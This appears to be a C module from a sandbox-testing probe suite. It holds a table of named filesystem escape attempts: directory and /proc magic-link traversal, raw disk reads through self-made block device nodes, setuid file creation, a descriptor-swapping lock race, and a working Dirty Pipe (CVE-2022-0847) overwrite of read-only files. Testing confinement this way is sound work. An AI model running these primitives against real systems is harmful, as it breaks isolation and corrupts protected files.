/* Reading, changing and making files that were not granted, or not that way. */
#include "probe.h"
#include <pthread.h>
#include <sys/file.h>
#include <linux/fs.h>
#include <linux/openat2.h>
#include <sys/file.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/xattr.h>

static void do_cat(char **a) { cat(a[0]); }
static void do_put(char **a) { put(a[0]); }

static void create(char **a) {
    int fd = TRY(open(a[0], O_WRONLY | O_CREAT | O_EXCL, 0644));
    TRY(write(fd, mark, strlen(mark)));
}

static void from_folder(char **a) {
    TRY(chdir(a[0]));
    cat(a[1]);
}

static void beside_descriptor(char **a) {
    int dir = TRY(open(a[0], O_RDONLY | O_DIRECTORY));
    cat_fd(TRY(openat(dir, a[1], O_RDONLY)));
}

static void in_root(char **a) {
    struct open_how how = {.flags = O_RDONLY, .resolve = RESOLVE_IN_ROOT};
    int dir = TRY(open(a[0], O_PATH));
    TRY(fchdir(dir));
    TRY(chdir(".."));
    cat_fd(TRY(syscall(SYS_openat2, AT_FDCWD, a[1], &how, sizeof how)));
}

static void up_from_descriptor(char **a) {
    int dir = TRY(open(a[0], O_RDONLY | O_DIRECTORY));
    TRY(fchdir(dir));
    for (int i = 0; i < 20; i++) TRY(chdir(".."));
    cat(a[1] + 1);
}

static void by_magic_link(char **a) {
    char path[512];
    int dir = TRY(open(a[0], O_PATH));
    snprintf(path, sizeof path, "/proc/self/fd/%d/../%s", dir, a[1]);
    cat(path);
}

static void reopen(char **a) {
    char path[64];
    int fd = TRY(open(a[0], O_RDONLY));
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    put(path);
}

static void reopen_stdin(char **a) {
    (void)a;
    put("/proc/self/fd/0");
}

static void mode_of_stdin(char **a) { TRY(fchmod(0, strtol(a[0], NULL, 8))); }

static void list(char **a) {
    char names[8192];
    int dir = TRY(open(a[0], O_RDONLY | O_DIRECTORY));
    long got = TRY(syscall(SYS_getdents64, dir, names, sizeof names));
    for (long i = 0; i < got; i++)
        if (!names[i]) names[i] = '\n';
    fwrite(names, 1, got, stdout);
}

static void make_folder(char **a) { TRY(mkdir(a[0], 0755)); }
static void make_link(char **a) { TRY(symlink(a[0], a[1])); }
static void make_pipe(char **a) { TRY(mkfifo(a[0], 0644)); }
static void make_device(char **a) { TRY(mknod(a[0], S_IFBLK | 0600, makedev(254, 0))); }
static void make_char_device(char **a) { TRY(mknod(a[0], S_IFCHR | 0600, makedev(1, 1))); }

static void read_disk(char **a) {
    /* Whatever the disk is, its node can be made anywhere by whoever may make nodes. */
    struct stat here;
    TRY(stat(a[0], &here));
    char path[512];
    snprintf(path, sizeof path, "%s/disk", a[0]);
    TRY(mknod(path, S_IFBLK | 0600, here.st_dev));
    int fd = TRY(open(path, O_RDONLY));
    unsigned char block[4096];
    TRY(pread(fd, block, sizeof block, 0));
    for (int i = 1024; i < 1024 + 256; i++) printf("%02x", block[i]);
    puts("");
}

static void mode(char **a) { TRY(chmod(a[0], strtol(a[1], NULL, 8))); }
static void mode_by_descriptor(char **a) {
    int fd = TRY(open(a[0], O_RDONLY));
    TRY(fchmod(fd, strtol(a[1], NULL, 8)));
}
static void create_set_id(char **a) { TRY(open(a[0], O_CREAT | O_WRONLY, 04755)); }
static void folder_set_id(char **a) { TRY(mkdir(a[0], 0755)), TRY(chmod(a[0], 02755)); }
static void owner(char **a) { TRY(chown(a[0], getuid(), getgid())); }
static void times(char **a) { TRY(utimes(a[0], (struct timeval[2]){{1, 0}, {1, 0}})); }
static void attribute(char **a) { TRY(setxattr(a[0], "user.escape", mark, strlen(mark), 0)); }
static void cut(char **a) { TRY(truncate(a[0], 0)); }
static void remove_file(char **a) { TRY(unlink(a[0])); }
static void remove_folder(char **a) { TRY(rmdir(a[0])); }

static void flags(char **a) {
    int fd = TRY(open(a[0], O_RDONLY)), bits = 0;
    TRY(ioctl(fd, FS_IOC_GETFLAGS, &bits));
    bits ^= FS_NODUMP_FL;
    TRY(ioctl(fd, FS_IOC_SETFLAGS, &bits));
}

static void map_shared(char **a) {
    int fd = open(a[0], O_RDWR);
    if (fd < 0) fd = TRY(open(a[0], O_RDONLY));
    char *text = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (text == MAP_FAILED) fail("mmap");
    memcpy(text, "MAPPED", 6);
    TRY(msync(text, 4096, MS_SYNC));
}

static void punch(char **a) {
    int fd = open(a[0], O_RDWR);
    if (fd < 0) fd = TRY(open(a[0], O_RDONLY));
    TRY(fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4));
}

static void lease(char **a) {
    int fd = TRY(open(a[0], O_RDONLY));
    TRY(fcntl(fd, F_SETLEASE, F_RDLCK));
    hold();
}

static void lock(char **a) {
    int fd = TRY(open(a[0], O_RDONLY));
    TRY(flock(fd, LOCK_EX | LOCK_NB));
    hold();
}

static void lock_shared(char **a) {
    int fd = TRY(open(a[0], O_RDONLY));
    TRY(flock(fd, LOCK_SH | LOCK_NB));
    hold();
}

static void lock_record(char **a) {
    int fd = TRY(open(a[0], O_RDONLY));
    struct flock all = {.l_type = F_RDLCK};
    TRY(fcntl(fd, atoi(a[1]) ? F_OFD_SETLK : F_SETLK, &all));
    hold();
}

static int swapped, readable, writable;
static volatile int flips = 1;

static void *flip(void *nothing) {
    while (flips) {
        dup2(readable, swapped);
        for (volatile int i = 0; flips && i < 300; i++);
        if (flips) dup2(writable, swapped);
    }
    return nothing;
}

/* What is judged is a file that may be written, what is locked another. */
static void lock_swapped(char **a) {
    pthread_t thread;
    struct stat wanted, got;
    char line[256];
    readable = TRY(open(a[0], O_RDONLY)), writable = TRY(open(a[1], O_RDWR | O_CREAT, 0644));
    swapped = TRY(dup(writable));
    fstat(readable, &wanted);
    pthread_create(&thread, NULL, flip, NULL);
    for (int i = 0; i < 20000; i++) {
        struct flock all = {.l_type = F_RDLCK};
        if (fcntl(swapped, F_SETLK, &all) < 0) continue;
        flips = 0;
        pthread_join(thread, NULL);
        fstat(swapped, &got);
        sprintf(line, "/proc/self/fdinfo/%d", swapped);
        FILE *told = fopen(line, "r");
        int locked = 0;
        while (told && fgets(line, sizeof line, told)) locked |= strstr(line, "POSIX") != NULL;
        if (told) fclose(told);
        if (locked && got.st_ino == wanted.st_ino) {
            /* Longer than it takes to be found out. */
            usleep(300000);
            hold();
            return;
        }
        flips = 1;
        pthread_create(&thread, NULL, flip, NULL);
    }
    fail("no lock was had");
}

static void times_of_stdin(char **a) {
    (void)a;
    TRY(futimens(0, (struct timespec[2]){{1, 0}, {1, 0}}));
}

/* CVE-2022-0847: a pipe's stale flag let a splice be written over a page of a read-only file. */
static void dirty_pipe(char **a) {
    char page[4096];
    int fd = TRY(open(a[0], O_RDONLY)), ends[2];
    TRY(pipe(ends));
    for (int i = 0; i < 16; i++) TRY(write(ends[1], page, sizeof page));
    for (int i = 0; i < 16; i++) TRY(read(ends[0], page, sizeof page));
    loff_t at = 0;
    TRY(splice(fd, &at, ends[1], NULL, 1, 0));
    TRY(write(ends[1], mark, strlen(mark)));
}

const struct attack files[] = {{"cat", do_cat},
                               {"put", do_put},
                               {"create", create},
                               {"from-folder", from_folder},
                               {"beside-descriptor", beside_descriptor},
                               {"in-root", in_root},
                               {"up-from-descriptor", up_from_descriptor},
                               {"by-magic-link", by_magic_link},
                               {"reopen", reopen},
                               {"reopen-stdin", reopen_stdin},
                               {"mode-of-stdin", mode_of_stdin},
                               {"list", list},
                               {"make-folder", make_folder},
                               {"make-link", make_link},
                               {"make-pipe", make_pipe},
                               {"make-device", make_device},
                               {"make-char-device", make_char_device},
                               {"read-disk", read_disk},
                               {"mode", mode},
                               {"mode-by-descriptor", mode_by_descriptor},
                               {"create-set-id", create_set_id},
                               {"folder-set-id", folder_set_id},
                               {"owner", owner},
                               {"times", times},
                               {"attribute", attribute},
                               {"cut", cut},
                               {"remove", remove_file},
                               {"remove-folder", remove_folder},
                               {"flags", flags},
                               {"map-shared", map_shared},
                               {"punch", punch},
                               {"lease", lease},
                               {"lock", lock},
                               {"lock-shared", lock_shared},
                               {"lock-record", lock_record},
                               {"lock-swapped", lock_swapped},
                               {"times-of-stdin", times_of_stdin},
                               {"dirty-pipe", dirty_pipe},
                               {NULL, NULL}};
